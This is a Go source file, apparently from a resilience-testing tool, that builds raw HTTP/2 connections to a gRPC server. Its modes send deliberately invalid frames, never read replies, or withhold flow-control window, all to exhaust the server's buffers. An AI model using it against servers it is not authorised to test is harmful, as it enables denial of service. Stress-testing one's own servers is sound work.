package h2attack

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// readMode is what an attacker does with the frames the server sends.
type readMode int

const (
	// readNone never reads them: the server's answers pile up in its own
	// buffers, which is the point of a flood from peers that do not read.
	readNone readMode = iota
	// readAll reads them as a client must: SETTINGS and PING are
	// acknowledged and the connection's receive window is given back.
	readAll
	// readNoWindow is readAll without giving any window back.
	readNoWindow
	// readQuiet reads them and answers nothing: what the server sends is
	// only watched (for a GOAWAY, or the end of the connection).
	readQuiet
)

// dialOptions shape a connection's start.
type dialOptions struct {
	mode readMode
	// settings are sent in the client's first SETTINGS frame.
	settings []http2.Setting
	// prefaceOnly sends the 24-byte magic and no SETTINGS frame.
	prefaceOnly bool
}

// conn is one attacker connection: a Framer writing through a buffer
// (flushed by send), and, unless the mode is readNone, a reader
// goroutine that keeps the Result and the connection's state.
type conn struct {
	nc   net.Conn
	rec  *recorder
	addr string

	// The write side: mu guards the framer's writes, the header encoder
	// and the stream ids.
	mu   sync.Mutex
	bw   *bufio.Writer
	fr   *http2.Framer
	henc *hpack.Encoder
	hbuf bytes.Buffer
	next uint32 // the next client stream id

	// maxStreams is the server's SETTINGS_MAX_CONCURRENT_STREAMS
	// (unlimited until said), maxFrame its SETTINGS_MAX_FRAME_SIZE;
	// settled is closed once its first SETTINGS has been read.
	maxStreams atomic.Uint32
	maxFrame   atomic.Uint32
	settled    chan struct{}
	settleOnce sync.Once

	// ended is the streams the server ended (RST_STREAM or END_STREAM)
	// since the last takeEnded.
	endedMu sync.Mutex
	ended   []uint32

	// done is closed when the connection is over, for whichever reason;
	// ours is set when the attack ended it rather than the server.
	done    chan struct{}
	endOnce sync.Once
	ours    atomic.Bool
	stop    func() bool // unregisters the context's AfterFunc
}

// dial opens a connection to addr and writes the client's preface. The
// connection ends when ctx does.
// errClosedAtOnce: the server closed a connection before its preface was
// written, as one does past its bound on connections.
var errClosedAtOnce = errors.New("closed by the server at once")

func dial(ctx context.Context, addr string, rec *recorder, o dialOptions) (*conn, error) {
	// Canceled by ctx's end only, not by its deadline, which the dialer
	// would use as the socket's own and fail with before ctx reports its
	// end: a dial cut short by the attack's end is not an error.
	dialCtx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	defer context.AfterFunc(ctx, cancel)()
	defer cancel()
	var d net.Dialer
	nc, err := d.DialContext(dialCtx, "tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dialing %s: %w", addr, err)
	}
	rec.conns.Add(1)
	c := &conn{
		nc:      nc,
		rec:     rec,
		addr:    addr,
		next:    1,
		settled: make(chan struct{}),
		done:    make(chan struct{}),
	}
	c.maxStreams.Store(math.MaxUint32)
	c.maxFrame.Store(16 << 10) // HTTP/2's initial value
	c.bw = bufio.NewWriterSize(nc, 32<<10)
	c.fr = http2.NewFramer(frameCounter{c.bw, rec}, bufio.NewReaderSize(nc, 32<<10))
	c.fr.AllowIllegalWrites = true // invalid frames are some attacks' point
	c.henc = hpack.NewEncoder(&c.hbuf)
	// Ending the attack unblocks every read and write at once.
	c.stop = context.AfterFunc(ctx, func() {
		c.ours.Store(true)
		_ = nc.SetDeadline(time.Unix(1, 0)) // fails only once closed: nothing left to unblock
	})

	err = c.send(func() error {
		_, _ = c.bw.WriteString(http2.ClientPreface) // an error sticks in bw: send's Flush returns it
		rec.bytes.Add(int64(len(http2.ClientPreface)))
		if o.prefaceOnly {
			return nil
		}
		return c.fr.WriteSettings(o.settings...)
	})
	if err != nil {
		c.close()
		return nil, fmt.Errorf("writing the preface to %s: %w (%w)", addr, errClosedAtOnce, err)
	}
	if o.mode != readNone {
		go c.read(o.mode)
	}
	return c, nil
}

// frameCounter counts the framer's writes: it writes each frame with one
// call.
type frameCounter struct {
	w   io.Writer
	rec *recorder
}

func (f frameCounter) Write(p []byte) (int, error) {
	f.rec.frames.Add(1)
	f.rec.bytes.Add(int64(len(p)))
	return f.w.Write(p)
}

// send runs fn with the write side held, then flushes what it wrote. An
// error ends the connection.
func (c *conn) send(fn func() error) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	err := fn()
	if err == nil {
		err = c.bw.Flush()
	}
	if err != nil {
		c.end(err)
	}
	return err
}

// headers is the header block of the gRPC call (write side held), with a
// grpc-timeout when timeout is not empty.
func (c *conn) headers(timeout string) []byte {
	c.hbuf.Reset()
	c.writeHeaders(timeout)
	return c.hbuf.Bytes()
}

// writeHeaders encodes the gRPC call's headers into hbuf (write side
// held), as grpc-go sends them.
func (c *conn) writeHeaders(timeout string) {
	for _, f := range [...]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: Method},
		{Name: ":authority", Value: c.addr},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "user-agent", Value: "grpc-go/h2attack"},
		{Name: "te", Value: "trailers"},
	} {
		c.henc.WriteField(f)
	}
	if timeout != "" {
		c.henc.WriteField(hpack.HeaderField{Name: "grpc-timeout", Value: timeout})
	}
}

// openStream writes the HEADERS of a new call (write side held) and
// returns its stream id.
func (c *conn) openStream(timeout string, endStream bool) (uint32, error) {
	id := c.newID()
	err := c.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      id,
		BlockFragment: c.headers(timeout),
		EndHeaders:    true,
		EndStream:     endStream,
	})
	return id, err
}

// newID takes the next client stream id (write side held).
func (c *conn) newID() uint32 {
	id := c.next
	c.next += 2
	c.rec.streams.Add(1)
	return id
}

// read reads the server's frames until the connection ends.
func (c *conn) read(mode readMode) {
	var unacked uint32
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.end(err)
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				continue
			}
			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
				c.maxStreams.Store(v)
			}
			if v, ok := f.Value(http2.SettingMaxFrameSize); ok {
				c.maxFrame.Store(v)
			}
			c.settleOnce.Do(func() { close(c.settled) })
			if mode != readQuiet {
				_ = c.send(c.fr.WriteSettingsAck) // a failure ends c
			}
		case *http2.PingFrame:
			if !f.IsAck() && mode != readQuiet {
				data := f.Data
				_ = c.send(func() error { return c.fr.WritePing(true, data) }) // a failure ends c
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				c.streamEnded(f.StreamID, true)
			}
			if mode == readAll {
				// The answers are small: the connection's window is the
				// one a busy stream of them would use up.
				unacked += f.Length
				if unacked >= 16<<10 {
					n := unacked
					unacked = 0
					_ = c.send(func() error { return c.fr.WriteWindowUpdate(0, n) }) // a failure ends c
				}
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				c.streamEnded(f.StreamID, true)
			}
		case *http2.RSTStreamFrame:
			c.streamEnded(f.StreamID, false)
		case *http2.GoAwayFrame:
			c.rec.goAway(f.ErrCode)
		}
	}
}

// streamEnded notes a stream the server ended.
func (c *conn) streamEnded(id uint32, answered bool) {
	if answered {
		c.rec.answers.Add(1)
	} else {
		c.rec.resets.Add(1)
	}
	c.endedMu.Lock()
	c.ended = append(c.ended, id)
	c.endedMu.Unlock()
}

// takeEnded returns the streams ended since the last call.
func (c *conn) takeEnded() []uint32 {
	c.endedMu.Lock()
	defer c.endedMu.Unlock()
	ids := c.ended
	c.ended = nil
	return ids
}

// waitSettled waits for the server's SETTINGS: until then the number of
// streams it takes is not known. It reports false if the connection or
// ctx ended first.
func (c *conn) waitSettled(ctx context.Context) bool {
	select {
	case <-c.settled:
		return true
	case <-c.done:
	case <-ctx.Done():
	}
	return false
}

// end marks the connection over, once: an error while the attack still
// runs is the server's doing (it closed or reset the connection, or
// broke the protocol).
func (c *conn) end(err error) {
	c.endOnce.Do(func() {
		if !c.ours.Load() && !errors.Is(err, net.ErrClosed) {
			c.rec.serverClosed()
		}
		close(c.done)
		_ = c.nc.Close() // ending: a close that fails leaves nothing to undo
	})
}

// close ends the connection from the attack's side.
func (c *conn) close() {
	c.ours.Store(true)
	c.stop()
	c.end(net.ErrClosed)
}
